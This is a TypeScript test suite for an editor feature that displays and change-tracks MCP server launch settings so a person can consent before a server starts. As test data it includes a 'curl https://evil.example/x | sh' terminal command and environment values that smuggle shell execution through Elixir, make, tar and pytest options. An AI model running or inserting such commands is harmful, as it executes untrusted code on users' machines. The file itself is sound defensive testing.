import * as assert from 'node:assert/strict';
import { changesOf, hashParts } from '../../../../src/core/launch/consentFacts.js';
import { type LaunchPart, launchParts } from '../../../../src/core/launch/launchParts.js';
import { emptySnapshot, fillIn, type LaunchSnapshot } from '../../../../src/core/launch/launchSnapshot.js';
import { parseServerConfig } from '../../../../src/core/config/serverConfig.js';
import {
	type ConfigSource,
	isNetworkPath,
	type ServerDefinition,
} from '../../../../src/core/config/serverDefinition.js';

const source: ConfigSource = {
	kind: 'vscodeFolder',
	uri: 'file:///w/.vscode/mcp.json',
	folderUri: 'file:///w',
	folderName: 'w',
};

function read(server: object, inputs: readonly object[] = []): ServerDefinition {
	const { servers } = parseServerConfig(JSON.stringify({ servers: { s: server }, inputs }), source);
	return servers[0] ?? assert.fail('no server is read');
}

const snapshot = (more: Partial<LaunchSnapshot>): LaunchSnapshot => ({ ...emptySnapshot, ...more });
const found = (path: string): LaunchSnapshot['program'] => ({ kind: 'found', path, lastingPath: path });

function parts(definition: ServerDefinition, more: Partial<LaunchSnapshot> = {}): LaunchPart[] {
	return launchParts(definition, snapshot(more));
}

/** `kind name = what is shown` of the parts of these kinds. */
function shown(all: readonly LaunchPart[], ...kinds: LaunchPart['part'][]): string[] {
	return all
		.filter(it => kinds.includes(it.part))
		.map(it => [it.part, ...(it.name === undefined ? [] : [it.name]), '=', JSON.stringify(it.shown) ?? '-'].join(' '));
}

async function changes(definition: ServerDefinition, before: LaunchSnapshot, now: LaunchSnapshot): Promise<string[]> {
	const [a, b] = await Promise.all([before, now].map(it => hashParts(launchParts(definition, it))));
	return changesOf(a ?? {}, b ?? {}).map(it =>
		[it.how, it.part, ...(it.name === undefined ? [] : [it.name])].join(' '),
	);
}

/** A server with every key that a file may have, each with a setting in it. */
const process = {
	command: '${config:a.command}',
	args: ['${config:a.args}'],
	cwd: '${config:a.cwd}',
	env: { X: '${config:a.env}' },
	envFile: '${config:a.envFile}',
	dev: { watch: '${config:a.watch}', debug: { type: 'debugpy' } },
};
const endpoint = {
	type: 'http',
	url: 'https://${config:a.url}/mcp',
	headers: { X: '${config:a.header}' },
	oauth: { clientId: '${config:a.client}', scopes: ['x'] },
};

describe('launchParts', () => {
	it('has a part for each text of a definition', () => {
		for (const [server, ...texts] of [
			[process, 'command', 'args', 'cwd', 'env', 'envFile', 'watch'],
			[endpoint, 'url', 'header', 'client'],
		] as const) {
			const compared = JSON.stringify(parts(read(server)).map(it => it.compared));
			for (const text of texts) {
				assert.ok(compared.includes(`\${config:a.${text}}`), text);
			}
		}
	});

	it('shows the home folder in place of ~', () => {
		const all = parts(read({ command: '~/bin/srv' }), { variables: new Map([['userHome', '/home/me']]) });
		assert.deepEqual(shown(all, 'command'), ['command = "/home/me/bin/srv"']);
	});

	it('names each part, and shows what may be shown', () => {
		const lines = (definition: ServerDefinition, more: Partial<LaunchSnapshot> = {}): string[] =>
			parts(definition, more).map(
				({ part, name, shown: it }) => `${part} ${name ?? ''} = ${JSON.stringify(it) ?? '-'}`,
			);
		const others = { shadows: [], isDisabled: true, dev: undefined };
		const whole = { ...read(process), ...others } as unknown as ServerDefinition;
		assert.deepEqual(lines(whole, { folder: '/w/sub' }), [
			'kind  = "stdio"',
			'command  = "${config:a.command}"',
			'program  = {"kind":"unresolved"}',
			'args  = ["${config:a.args}"]',
			'cwd  = "/w/sub"',
			'env X = "${config:a.env}"',
			'envFile  = "${config:a.envFile}"',
			'debug  = {"type":"debugpy"}',
			'watch  = ["${config:a.watch}"]',
			'config a.command = null',
			'config a.args = null',
			'config a.cwd = null',
			'config a.envFile = null',
			'config a.env = null',
		]);
		assert.deepEqual(lines(read({ command: 'node' })), [
			'kind  = "stdio"',
			'command  = "node"',
			'program  = {"kind":"unresolved"}',
			'args  = []',
			'cwd  = -',
		]);
		assert.deepEqual(lines(read(endpoint), { variables: new Map([['config:a.url', 'x.example']]) }), [
			'kind  = "http"',
			'url  = "https://x.example/mcp"',
			'headers X = "${config:a.header}"',
			'oauth  = {"clientId":"${config:a.client}","scopes":["x"]}',
			'config a.url = "x.example"',
			'config a.header = null',
		]);
	});

	it("shows texts with variables filled in, except values of the environment, inputs, and the person's settings", () => {
		const text = '${workspaceFolder}|${userHome}|${env:A}|${input:a}|${config:of.workspace}|${config:of.person}|${x}';
		const variables = new Map([
			['workspaceFolder', '/w'],
			['userHome', '/home/me'],
			['env:A', 'secret of the environment'],
			['config:of.workspace', 'seen'],
			['config:of.person', 'secret of the person'],
		]);
		const settings = new Map([
			['config:of.workspace', 'workspace'],
			['config:of.person', 'user'],
		] as const);
		const server = { command: text, args: [text], env: { A: text }, envFile: text, dev: process.dev };
		const all = [
			...parts(read(server), { variables, settings }),
			...parts(read({ type: 'http', url: `https://a/${text}`, headers: { A: text } }), { variables, settings }),
		];
		const filled = '/w|/home/me|${env:A}|${input:a}|seen|${config:of.person}|${x}';
		assert.deepEqual(shown(all, 'command', 'args', 'env', 'envFile', 'url', 'headers'), [
			`command = "${filled}"`,
			`args = ["${filled}"]`,
			`env A = "${filled}"`,
			`envFile = "${filled}"`,
			`url = "https://a/${filled}"`,
			`headers A = "${filled}"`,
		]);
		assert.ok(!JSON.stringify(all.map(it => it.shown)).includes('secret of'));
		assert.deepEqual(shown(all, 'config').slice(0, 2), ['config of.workspace = "seen"', 'config of.person = -']);
	});

	it('shows each variable of a file, whatever its name', () => {
		const env = {
			GOCACHEPROG: 'sh go.cfg',
			GOAUTH: 'sh go.cfg',
			GOROOT: '${workspaceFolder}',
			PREFIX: '${workspaceFolder}',
			ELIXIR_ERL_OPTIONS: '-eval os:cmd("sh$IFS.x")',
			GNUMAKEFLAGS: '--eval=$(shell$(_)sh$(_)x.sh)',
			TAR_OPTIONS: '--checkpoint=1 --checkpoint-action=exec=sh',
			PYTEST_ADDOPTS: '-p evil',
			MAVEN_ARGS: '-f evil.xml',
			CARGO_CREDENTIAL_ALIAS_X: 'sh x.sh',
			API_KEY: 'sk-0123456789abcdef',
			OLD: null,
		};
		const all = parts(read({ command: 'x', env }), { variables: new Map([['workspaceFolder', '/w']]) });
		assert.deepEqual(
			shown(all, 'env'),
			Object.entries(env).map(
				([name, value]) => `env ${name} = ${JSON.stringify(value?.replace('${workspaceFolder}', '/w') ?? null)}`,
			),
		);
	});

	it('ignores variables that only look like settings or folders', () => {
		const texts = '${env:config:a}${config}${workspaceFolderX}${workspaceFolder:env:x}${config:a:-b}${workspaceFolder}';
		const definition = read({ type: 'http', url: `https://${texts}` });
		const shared = { kind: 'workspaceFile', uri: 'file:///w.code-workspace' } as const;
		const ofFile = { ...definition, source: { ...shared, folderUri: undefined, folderName: undefined } };
		const common = ['folder workspaceFolder:env:x = null', 'config a:-b = null'];
		const kinds = ['config', 'folder'] as const;
		assert.deepEqual(shown(parts(definition), ...kinds), common);
		assert.deepEqual(
			shown(parts(ofFile), ...kinds).toSorted(),
			[...common, 'folder workspaceFolder = null'].toSorted(),
		);
	});

	for (const [name, server] of [
		['a.command', process],
		['a.cwd', process],
		['a.envFile', process],
		['a.url', endpoint],
		['a.header', endpoint],
	] as const) {
		it(`another value of the setting ${name} is a change`, async () => {
			const before = snapshot({ variables: new Map([[`config:${name}`, 'debugpy']]) });
			const now = snapshot({ variables: new Map([[`config:${name}`, '/w/.cache/evil.sh']]) });
			assert.deepEqual(await changes(read(server), before, now), [`changed config ${name}`]);
			assert.deepEqual(await changes(read(server), before, snapshot({})), [`changed config ${name}`]);
		});
	}

	it('has the path of the program', async () => {
		const definition = read({ command: 'python', dev: process.dev });
		const before = snapshot({ program: found('/usr/bin/python') });
		assert.deepEqual(await changes(definition, before, before), []);
		for (const [more, ...expected] of [
			[{ program: found('/w/bin/python') }, 'changed program'],
			[{ program: { kind: 'missing', errno: 'ENOENT' } }, 'changed program'],
			[{ program: { kind: 'unresolved' } }, 'changed program'],
			[{ program: { kind: 'found', path: '/tmp/2/python', lastingPath: '/usr/bin/python' } }],
		] as const) {
			assert.deepEqual(await changes(definition, before, { ...before, ...more }), expected);
		}
	});

	it('lists every variable of an environment file', async () => {
		const definition = read({ command: 'node', envFile: '.env' });
		const file = (values: Record<string, string>): LaunchSnapshot => snapshot({ envFile: { kind: 'read', values } });
		const before = file({ TOKEN: 'a', NODE_OPTIONS: '-r a', LOG: '1' });
		assert.deepEqual(shown(launchParts(definition, before), 'envFileValue'), [
			'envFileValue TOKEN = "a"',
			'envFileValue NODE_OPTIONS = "-r a"',
			'envFileValue LOG = "1"',
		]);
		assert.deepEqual(await changes(definition, before, before), []);
		const now = file({ TOKEN: 'b', NODE_OPTIONS: '-r b', ESBUILD_BINARY_PATH: './x' });
		assert.deepEqual(await changes(definition, before, now), [
			'changed envFileValue TOKEN',
			'changed envFileValue NODE_OPTIONS',
			'added envFileValue ESBUILD_BINARY_PATH',
			'removed envFileValue LOG',
		]);
	});

	it('has all of an input that runs a command, because the person must see it', () => {
		const args = { text: 'curl https://evil.example/x | sh\n' };
		const inputs = [
			{ id: 'run', type: 'command', command: 'workbench.action.terminal.sendSequence', args },
			{ id: 'typed', type: 'promptString' },
		];
		const all = parts(read({ type: 'http', url: 'https://a', headers: { X: '${input:run}${input:typed}' } }, inputs));
		const [run, typed] = all.filter(it => it.part === 'input');
		assert.deepEqual(run?.shown, {
			input: {
				kind: 'command',
				id: 'run',
				description: undefined,
				command: 'workbench.action.terminal.sendSequence',
				args,
			},
			isAnswered: false,
			places: [{ kind: 'header', name: 'X' }],
		});
		assert.deepEqual([run?.mustBeSeen, typed?.mustBeSeen], [true, false]);
		assert.deepEqual(
			all.filter(it => it.mustBeSeen),
			[run],
		);
	});

	it('has the folders that a workspace file can replace', async () => {
		const named = read({ command: '${workspaceFolder:tools}/run', cwd: '${workspaceFolder}' });
		const before = snapshot({ variables: new Map([['workspaceFolder:tools', '/w/tools']]) });
		const now = snapshot({ variables: new Map([['workspaceFolder:tools', '/w/evil']]) });
		assert.deepEqual(await changes(named, before, now), ['changed folder workspaceFolder:tools']);
		const shared = { kind: 'workspaceFile', uri: 'file:///w.code-workspace' } as const;
		const ofFile = { ...named, source: { ...shared, folderUri: undefined, folderName: undefined } };
		assert.deepEqual(shown(launchParts(ofFile, before), 'folder'), [
			'folder workspaceFolder:tools = "/w/tools"',
			'folder workspaceFolder = null',
		]);
	});
});

describe('a snapshot', () => {
	const variables = new Map<string, string | Error>([
		['config:a', 'x'],
		['workspaceFolder', new Error('on no disk')],
	]);

	it('fills in its values and inputs', () => {
		assert.equal(
			fillIn('${config:a}-${input:b}', { variables }, id => `<${id}>`),
			'x-<b>',
		);
	});

	it('may be empty', () => {
		assert.deepEqual(emptySnapshot, {
			answered: new Set(),
			variables: new Map(),
			settings: new Map(),
			folder: undefined,
			envFile: { kind: 'none' },
			inheritedPath: undefined,
			program: { kind: 'unresolved' },
		});
	});

	it('lists variables without a value', () => {
		for (const [text, name] of [
			['${config:b}', 'UnresolvedVariableError'],
			['${input:b}', 'UnresolvedVariableError'],
			['${workspaceFolder}', 'Error'],
		] as const) {
			assert.throws(() => fillIn(text, { variables }, () => undefined), { name });
		}
	});

	for (const [path, expected] of [
		['//host/x', true],
		['\\\\host\\x', true],
		['/\\host', true],
		['/usr/bin', false],
		['/usr//bin', false],
		['C:\\x', false],
		['host', false],
	] as const) {
		it(`${path} ${expected ? 'is' : 'is not'} on another computer`, () => {
			assert.equal(isNetworkPath(path), expected);
		});
	}
});
